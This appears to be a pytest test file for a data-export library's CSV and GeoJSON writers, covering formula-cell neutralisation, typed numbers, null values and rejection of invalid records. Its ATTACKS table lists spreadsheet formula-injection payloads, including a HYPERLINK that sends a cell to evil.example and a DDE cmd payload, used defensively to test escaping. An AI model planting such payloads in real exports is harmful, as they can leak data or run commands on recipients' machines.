"""The writers: formula cells neutralised, numbers as numbers, missing values empty or null,
every row with its marking, and nothing written that the readers would refuse."""

from __future__ import annotations

import csv
import io
import json

import pytest

from truceguard.errors import InputError
from truceguard.io import write_csv, write_geojson
from truceguard.io.csvmap import EXPORT_COLUMNS, neutralise_cell, observation_row, restore_cell
from truceguard.io.timeparse import T_MIN
from truceguard.model import Observation


def obs(**over: object) -> Observation:
    base: dict[str, object] = dict(
        source="patrol 3", how_known="heard", t_start=1709361600, t_end=1709361659,
        time_precision_s=60, lat=-12.5, lon=37.9, uncertainty_m=None, category="explosion",
        releasability="REL TO FRA, GBR")
    base.update(over)
    return Observation(**base)  # type: ignore[arg-type]


ATTACKS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': "'=HYPERLINK",
    "=cmd|' /C calc'!A0": "'=cmd",
    "+1+1": "'+1",
    "-2+3": "'-2",
    "@SUM(A1:A9)": "'@SUM",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "'=already quoted": "''=",
    "plain text": "plain",
    "'Tis the season": "'Tis",  # an apostrophe before ordinary text stays as it is
}


def test_formula_cells_are_neutralised_and_numbers_are_not() -> None:
    rows = [obs(text=t, origin=t, source=t) for t in ATTACKS]
    buf = io.StringIO()
    write_csv(rows, buf)
    out = list(csv.reader(io.StringIO(buf.getvalue())))
    assert out[0] == list(EXPORT_COLUMNS)
    col = {name: i for i, name in enumerate(EXPORT_COLUMNS)}
    for row, expected in zip(out[1:], ATTACKS.values(), strict=True):
        for name in ("text", "origin", "source"):
            assert row[col[name]].startswith(expected), (name, row[col[name]])
        assert row[col["lat"]] == "-12.5"  # a negative number stays a number
        assert row[col["releasability"]] == "REL TO FRA, GBR"
    raw = io.StringIO()
    write_csv(rows, raw, raw=True)
    assert [r[col["text"]] for r in csv.reader(io.StringIO(raw.getvalue()))][1:] == list(ATTACKS)
    for cell in ATTACKS:
        assert restore_cell(neutralise_cell(cell)) == cell


def test_times_numbers_missing_values_and_markings() -> None:
    o = obs(obs_id=None, uncertainty_m=None, count=3, attributes={})
    row = dict(zip(EXPORT_COLUMNS, observation_row(o), strict=True))
    assert row["time"] == "2024-03-02T06:40:00Z" and row["t_end"] == "2024-03-02T06:40:59Z"
    assert (row["lat"], row["count"], row["time_precision_s"]) == (-12.5, 3, 60)
    assert row["obs_id"] is None and row["uncertainty_m"] is None and row["attributes"] is None
    as_json = json.loads(json.dumps(row))
    assert as_json["lat"] == -12.5 and as_json["obs_id"] is None
    buf = io.StringIO()
    write_csv([o], buf)
    cells = next(csv.DictReader(io.StringIO(buf.getvalue())))
    assert cells["obs_id"] == "" and cells["uncertainty_m"] == "" and cells["count"] == "3"
    assert cells["releasability"] == "REL TO FRA, GBR"
    gj = io.StringIO()
    write_geojson([o], gj)
    props = json.loads(gj.getvalue())["features"][0]["properties"]
    assert props["uncertainty_m"] is None and props["obs_id"] is None
    assert props["count"] == 3 and props["releasability"] == "REL TO FRA, GBR"
    assert props["time"] == "2024-03-02T06:40:00Z"


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"t_start": T_MIN - 1, "t_end": T_MIN - 1}, "t_start"),  # 999-12-31T23:59:59Z
        ({"t_end": 253402300800}, "t_end"),  # 10000-01-01
        ({"lat": float("nan")}, "lat"),
        ({"lon": 200.0}, "lon"),
        ({"count": 2**63}, "count"),
        ({"uncertainty_m": float("inf")}, "uncertainty_m"),
        ({"time_precision_s": 0}, "time_precision_s"),
        ({"text": "lone \ud800 surrogate"}, "text"),
    ],
)
def test_writers_refuse_what_the_readers_would_refuse(change: dict[str, object],
                                                      field: str) -> None:
    bad = obs(obs_id=42, **change)
    for write in (write_csv, write_geojson):
        with pytest.raises(InputError) as info:
            write([obs(), bad], io.StringIO())
        assert info.value.code == "output.unwritable"
        assert "observation 42 cannot be written" in info.value.message
        assert f": {field}: " in info.value.message
